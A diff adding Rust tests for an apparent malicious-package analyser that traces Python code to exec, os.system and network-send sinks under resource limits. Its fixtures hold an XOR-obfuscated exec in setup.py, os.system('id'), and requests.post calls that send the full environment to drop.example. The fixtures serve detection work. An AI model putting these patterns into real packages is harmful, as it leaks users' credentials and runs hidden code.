@@ -1,0 +1,120 @@
+//! What following a package costs, and that nothing is lost or kept silent for it.
+
+use crate::{Analysis, SinkKind, SourceFile, SourceKind, analyse_package};
+use std::fmt::Write as _;
+use wellhead_core::{Budget, Limits, Outcome};
+
+fn package(files: &[(&str, &str)]) -> Analysis {
+    let files: Vec<SourceFile<'_>> = files
+        .iter()
+        .map(|(path, text)| SourceFile { path, text })
+        .collect();
+    analyse_package(&files, &mut Budget::default())
+}
+
+/// The same with so many steps as the whole of it may take.
+fn within(steps: u64, files: &[(&str, &str)]) -> Analysis {
+    let files: Vec<SourceFile<'_>> = files
+        .iter()
+        .map(|(path, text)| SourceFile { path, text })
+        .collect();
+    let limits = Limits {
+        steps,
+        ..Limits::default()
+    };
+    analyse_package(&files, &mut Budget::new(limits, std::sync::Arc::default()))
+}
+
+fn sources(analysis: &Analysis, kind: SinkKind) -> Vec<SourceKind> {
+    let of_kind = analysis.records.iter().filter(|r| r.kind == kind);
+    of_kind.flat_map(|r| r.sources.iter().copied()).collect()
+}
+
+#[test]
+fn helpers_that_give_nothing_back_are_not_entered_at_every_call() {
+    let mut text = String::from(
+        "def check(a, b, depth=0):\n    for x in (a, b):\n        if x != depth:\n            check(x, depth, depth + 1)\n            check(depth, x, depth + 1)\n",
+    );
+    for n in 0..300 {
+        writeln!(text, "def test_{n}():\n    check([{n}, 1], [{n}, 2])").unwrap();
+    }
+    let analysis = within(2_000_000, &[("pkg/__init__.py", &text)]);
+    assert_eq!(analysis.outcome, Outcome::Analysed);
+}
+
+#[test]
+fn a_decoder_that_calls_a_procedure_for_every_letter_is_followed() {
+    let text = "out = []\ndef put(c):\n    out.append(chr(c ^ 7))\nfor c in b\"njwhus'ht<'ht)t~tsbj/ nc .\":\n    put(c)\nexec(''.join(out))\n";
+    let analysis = package(&[("setup.py", text)]);
+    assert_eq!(sources(&analysis, SinkKind::Execute), [SourceKind::Decoded]);
+}
+
+#[test]
+fn what_is_given_back_is_nothing_that_somebody_reaches() {
+    let mut text = String::from(
+        "import os, requests\nSTATE = {}\nclass Keeper:\n    def __init__(self):\n        self.held = {'deep': [dict(os.environ)]}\nKEEPER = Keeper()\n",
+    );
+    for n in 0..700 {
+        writeln!(
+            text,
+            "def busy_{n}(a):\n    rows = [[x, (x, {n})] for x in range(40)]\n    return [r for r in rows]"
+        )
+        .unwrap();
+    }
+    text.push_str("def zz_last():\n    requests.post('https://drop.example', data=KEEPER.held['deep'][0])\n");
+    let analysis = package(&[("pkg/__init__.py", &text)]);
+    assert_eq!(
+        sources(&analysis, SinkKind::NetworkSend),
+        [SourceKind::BulkEnvironment]
+    );
+    assert_eq!(analysis.outcome, Outcome::Analysed);
+}
+
+#[test]
+fn a_function_without_end_is_named_and_the_others_are_followed() {
+    let endless = "def a_spin(n):\n    x = []\n    while True:\n        for i in range(100000):\n            for j in range(100000):\n                x = [i, [j, [i, (j, x)]]]\n";
+    let text = format!(
+        "import os, requests\n{endless}def send():\n    requests.post('https://drop.example', data=dict(os.environ))\n"
+    );
+    let analysis = package(&[("pkg/__init__.py", &text)]);
+    assert_eq!(
+        sources(&analysis, SinkKind::NetworkSend),
+        [SourceKind::BulkEnvironment]
+    );
+}
+
+#[test]
+fn large_tables_do_not_fill_memory() {
+    let text = "import os\nROWS = [[{'const': 37}] * 100000 for _ in range(9)]\nALL = [*ROWS, *ROWS]\nNAMES = {str(n): [n] * 1000 for n in range(3000)}\nos.system('id')\n";
+    let analysis = package(&[("pkg/__init__.py", text)]);
+    assert_eq!(analysis.records.len(), 1);
+}
+
+#[test]
+fn a_condition_on_what_is_in_a_table_is_decided() {
+    let run = |condition: &str| {
+        let table = "NAMES = {'a': 1, 'b': 2}\nWORDS = ('x', 'y')\nMIXED = ['x', unknown()]\n";
+        let text =
+            format!("import os\n{table}CODE = 'no'\nif {condition}:\n    CODE = 'yes'\nos.system(CODE)\n");
+        let analysis = package(&[("pkg/__init__.py", &text)]);
+        let all: Vec<String> = analysis
+            .records
+            .iter()
+            .flat_map(|r| r.arguments.clone())
+            .collect();
+        all.join(" ")
+    };
+    for (condition, expected) in [
+        ("'a' in NAMES", "yes"),
+        ("'c' in NAMES", "no"),
+        ("'c' not in NAMES", "yes"),
+        ("'x' in WORDS", "yes"),
+        ("'z' in WORDS", "no"),
+        ("'x' in MIXED", "yes"),
+        ("'z' in MIXED", "no|yes"),
+        ("1 in (1, 2)", "yes"),
+        ("3 in [1, 2]", "no"),
+    ] {
+        assert_eq!(run(condition), expected, "{condition}");
+    }
+}
